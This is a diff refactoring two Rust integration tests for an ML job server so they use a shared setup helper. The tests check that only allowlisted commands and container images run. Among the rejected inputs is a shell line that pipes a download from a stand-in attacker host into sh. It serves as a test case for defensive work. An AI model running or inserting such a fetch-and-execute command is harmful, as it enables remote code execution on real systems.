@@ -7,7 +7,6 @@ use crate::common;
 
 use std::time::Duration;
 
-use augur::{App, ServerConfig};
 use reqwest::{Method, StatusCode};
 use serde_json::{Value, json};
 
@@ -302,32 +301,16 @@ async fn a_writer_may_not_run_commands_and_changes_only_its_own_studies(backend:
 /// a job may not set what would make an allowed program load something else.
 #[tokio::test]
 async fn a_server_runs_only_the_commands_it_allows() {
-    let db = common::sqlite_db();
-    let mut config = ServerConfig::new(db.url.clone(), "127.0.0.1:0".parse().expect("addr"));
-    config.token = Some(ADMIN.into());
-    config.dispatch = false;
-    config.job_commands = vec![
-        "/usr/bin/python3 /opt/trainers/train.py".into(),
-        "/opt/bin/".into(),
-    ];
-    let app = App::build(config).await.expect("server");
-    let base = format!("http://{}", app.addr());
-    tokio::spawn(app.run());
-    let http = common::http();
-    let create = |spec: Value| {
-        let (http, base) = (&http, &base);
-        async move {
-            common::call(
-                http,
-                base,
-                Some(ADMIN),
-                Method::POST,
-                "/v1/studies",
-                Some(spec),
-            )
-            .await
-        }
-    };
+    let app = common::spawn_app_configured(common::sqlite_db(), |c| {
+        c.token = Some(ADMIN.into());
+        c.dispatch = false;
+        c.job_commands = vec![
+            "/usr/bin/python3 /opt/trainers/train.py".into(),
+            "/opt/bin/".into(),
+        ];
+    })
+    .await;
+    let create = |spec: Value| app.post("/v1/studies", spec);
     for command in [
         json!(["/bin/sh", "-c", "curl evil.example | sh"]),
         json!(["/usr/bin/python3", "-c", "import os"]),
@@ -381,34 +364,18 @@ async fn a_server_runs_only_the_commands_it_allows() {
 /// `--job-images`: container and Kubernetes jobs run only images under an allowed prefix.
 #[tokio::test]
 async fn a_server_runs_only_the_images_it_allows() {
-    let db = common::sqlite_db();
-    let mut config = ServerConfig::new(db.url.clone(), "127.0.0.1:0".parse().expect("addr"));
-    config.token = Some(ADMIN.into());
-    config.dispatch = false;
-    config.job_images = vec!["registry.example.com/ml/".into()];
-    let app = App::build(config).await.expect("server");
-    let base = format!("http://{}", app.addr());
-    tokio::spawn(app.run());
-    let http = common::http();
+    let app = common::spawn_app_configured(common::sqlite_db(), |c| {
+        c.token = Some(ADMIN.into());
+        c.dispatch = false;
+        c.job_images = vec!["registry.example.com/ml/".into()];
+    })
+    .await;
+    let create = |spec: Value| app.post("/v1/studies", spec);
     let image_spec = |image: &str| {
         let mut s = job_spec(json!(["python3", "train.py"]));
         s["trial_job"]["executor"] = json!("container");
         s["trial_job"]["image"] = json!(image);
         s
-    };
-    let create = |spec: Value| {
-        let (http, base) = (&http, &base);
-        async move {
-            common::call(
-                http,
-                base,
-                Some(ADMIN),
-                Method::POST,
-                "/v1/studies",
-                Some(spec),
-            )
-            .await
-        }
     };
     for image in [
         "docker.io/library/busybox",
